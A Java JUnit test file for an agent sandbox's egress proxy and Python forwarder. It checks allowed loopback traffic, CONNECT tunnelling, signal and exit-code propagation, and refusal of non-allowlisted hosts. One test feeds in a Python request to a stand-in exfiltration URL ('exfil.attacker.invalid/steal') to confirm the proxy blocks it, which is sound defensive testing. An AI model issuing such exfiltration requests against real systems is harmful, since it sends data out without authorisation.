package dev.agentic.sandbox.internal.egress;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.agentic.core.sandbox.HostPort;
import dev.agentic.core.sandbox.NetworkDecision;
import dev.agentic.core.sandbox.NetworkPolicy;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * End to end with a real {@code python3} on the host (no bubblewrap): program -> forwarder.py on
 * 127.0.0.1 -> Unix socket -> {@link EgressProxy} -> a local HTTP API opted in as loopback.
 */
@Timeout(60)
class EgressForwarderTest {
    static final String PYTHON = realPython();

    @TempDir
    Path dir;

    private HttpServer api;
    private final List<String> apiRequests = new CopyOnWriteArrayList<>();
    private EgressProxy proxy;
    private Path script;
    private int forwarderPort;

    @BeforeEach
    void start() throws Exception {
        api = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        api.createContext("/", exchange -> {
            apiRequests.add(exchange.getRequestMethod() + " " + exchange.getRequestURI() + " connection="
                    + exchange.getRequestHeaders().getFirst("Connection"));
            byte[] body = "hello from the host API".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        api.start();
        String target = "127.0.0.1:" + api.getAddress().getPort();
        proxy = EgressProxy.start(
                dir.resolve("sock").resolve("egress.sock"),
                NetworkPolicy.allow(target),
                EgressOptions.builder()
                        .allowLoopbackHosts(Set.of(HostPort.parse(target)))
                        .build());
        script = Files.write(dir.resolve("forwarder.py"), EgressForwarder.script());
        try (ServerSocket s = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            forwarderPort = s.getLocalPort();
        }
    }

    @AfterEach
    void stop() {
        proxy.close();
        api.stop(0);
    }

    @Test
    void absoluteUriGetIsForwardedInOriginFormToTheOptedInHost() throws Exception {
        try (UdsClient c = UdsClient.connect(proxy.socketPath())) {
            int port = api.getAddress().getPort();
            UdsClient.Response r = c.request("GET http://127.0.0.1:" + port
                    + "/v1/items?q=1 HTTP/1.1\r\nHost: 127.0.0.1:" + port + "\r\nProxy-Connection: keep-alive\r\n\r\n");
            assertThat(r.status()).isEqualTo(200);
            assertThat(new String(c.readToEnd(), StandardCharsets.UTF_8)).isEqualTo("hello from the host API");
        }
        assertThat(apiRequests).containsExactly("GET /v1/items?q=1 connection=close");
    }

    @Test
    void programReachesTheLocalApiThroughTheForwarderAndItsExitCodePropagates() throws Exception {
        Result r = runThroughForwarder(
                urllibProgram("http://127.0.0.1:" + api.getAddress().getPort() + "/hello") + "sys.exit(3)\n");
        assertThat(r.stdout).isEqualTo("hello from the host API\n");
        assertThat(r.stderr).isEmpty();
        assertThat(r.exitCode).isEqualTo(3);
        assertThat(apiRequests).containsExactly("GET /hello connection=close");
        assertThat(proxy.decisions())
                .singleElement()
                .extracting(NetworkDecision::allowed)
                .isEqualTo(true);
    }

    @Test
    void refusedDestinationReachesTheProgramAs403WithTheReason() throws Exception {
        Result r = runThroughForwarder("import urllib.error\ntry:\n"
                + indent(urllibProgram("http://exfil.attacker.invalid/steal"))
                + "except urllib.error.HTTPError as e:\n    print(e.code, e.headers['X-Proxy-Error'])\n");
        assertThat(r.stdout).isEqualTo("403 host not in allowlist\n");
        assertThat(r.exitCode).isZero();
        assertThat(apiRequests).isEmpty();
    }

    @Test
    void connectThroughTheForwarderTunnelsRawBytes() throws Exception {
        int port = api.getAddress().getPort();
        Result r = runThroughForwarder("import socket\n"
                + "s = socket.create_connection(('127.0.0.1', " + forwarderPort + "))\n"
                + "s.sendall(b'CONNECT 127.0.0.1:" + port + " HTTP/1.1\\r\\n\\r\\n')\n"
                + "f = s.makefile('rb')\n"
                + "print(f.readline().decode().strip()); f.readline()\n"
                + "s.sendall(b'GET /raw HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n')\n"
                + "print(f.read().decode().split('\\r\\n\\r\\n', 1)[1])\n");
        assertThat(r.stdout).isEqualTo("HTTP/1.1 200 Connection established\nhello from the host API\n");
        assertThat(apiRequests).containsExactly("GET /raw connection=close");
    }

    @Test
    void programOutputPassesThroughUnchanged() throws Exception {
        Result r = runThroughForwarder(
                "import sys\nsys.stdout.write('out\\x00\\u00e9 no newline')\n" + "sys.stderr.write('err line\\n')\n");
        assertThat(r.stdout).isEqualTo("out\u0000\u00e9 no newline");
        assertThat(r.stderr).isEqualTo("err line\n");
        assertThat(r.exitCode).isZero();
    }

    @Test
    void deathBySignalIsReraisedSoTheOuterStatusShowsTheSameSignal() throws Exception {
        // A parent Python reports a signal death as a negative return code, which a plain exit code cannot fake.
        List<String> cmd = new ArrayList<>(
                List.of(PYTHON, "-I", "-c", "import subprocess, sys; print(subprocess.run(sys.argv[1:]).returncode)"));
        cmd.addAll(forwarderCommand("import os, signal\nos.kill(os.getpid(), signal.SIGTERM)\n"));
        Result r = run(cmd);
        assertThat(r.stdout).isEqualTo("-15\n");
    }

    @Test
    void forwardedSigtermReachesTheProgram() throws Exception {
        Process p = new ProcessBuilder(forwarderCommand("import signal, sys, time\n"
                        + "signal.signal(signal.SIGTERM, lambda *a: (print('got TERM', flush=True), sys.exit(7)))\n"
                        + "print('ready', flush=True)\ntime.sleep(30)\n"))
                .start();
        assertThat(new String(p.getInputStream().readNBytes(6), StandardCharsets.UTF_8))
                .isEqualTo("ready\n");
        // SIGTERM to the forwarder only (Process.destroy would also close our end of its pipes)
        assertThat(new ProcessBuilder("kill", "-TERM", Long.toString(p.pid()))
                        .start()
                        .waitFor())
                .isZero();
        assertThat(p.waitFor(10, TimeUnit.SECONDS)).isTrue();
        assertThat(new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8))
                .isEqualTo("got TERM\n");
        assertThat(p.exitValue()).isEqualTo(7);
    }

    @Test
    void aProgramThatCannotBeStartedExitsWith127AndSaysWhy() throws Exception {
        Result r = run(List.of(
                PYTHON,
                "-I",
                "-S",
                script.toString(),
                "--socket",
                proxy.socketPath().toString(),
                "--port",
                Integer.toString(forwarderPort),
                "--",
                "/nonexistent/program"));
        assertThat(r.exitCode).isEqualTo(127);
        assertThat(r.stderr).contains("cannot run /nonexistent/program");
        assertThat(r.stdout).isEmpty();
    }

    private String urllibProgram(String url) {
        return "import sys, urllib.request\n"
                + "opener = urllib.request.build_opener(urllib.request.ProxyHandler("
                + "{'http': 'http://127.0.0.1:" + forwarderPort + "'}))\n"
                + "print(opener.open('" + url + "', timeout=10).read().decode())\n";
    }

    private static String indent(String code) {
        return "    " + code.strip().replace("\n", "\n    ") + "\n";
    }

    private List<String> forwarderCommand(String program) {
        return List.of(
                PYTHON,
                "-I",
                "-S",
                script.toString(),
                "--socket",
                proxy.socketPath().toString(),
                "--port",
                Integer.toString(forwarderPort),
                "--",
                PYTHON,
                "-I",
                "-c",
                program);
    }

    private Result runThroughForwarder(String program) throws Exception {
        return run(forwarderCommand(program));
    }

    private static Result run(List<String> cmd) throws Exception {
        ProcessBuilder pb = new ProcessBuilder(cmd);
        Map<String, String> env = pb.environment();
        env.keySet().removeIf(k -> k.toLowerCase(Locale.ROOT).endsWith("_proxy"));
        Process p = pb.start();
        p.getOutputStream().close();
        CompletableFuture<byte[]> err = CompletableFuture.supplyAsync(() -> {
            try {
                return p.getErrorStream().readAllBytes();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
        byte[] out = p.getInputStream().readAllBytes();
        assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
        return new Result(
                new String(out, StandardCharsets.UTF_8), new String(err.get(), StandardCharsets.UTF_8), p.exitValue());
    }

    private record Result(String stdout, String stderr, int exitCode) {}

    /** The real interpreter, not a pyenv shim: /usr/bin/python3 when present, else what python3 reports. */
    private static String realPython() {
        if (Files.isExecutable(Path.of("/usr/bin/python3"))) {
            return "/usr/bin/python3";
        }
        try {
            Process p = new ProcessBuilder("python3", "-c", "import sys; print(sys.executable)").start();
            return new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip();
        } catch (IOException e) {
            throw new IllegalStateException("python3 is needed for this test", e);
        }
    }
}
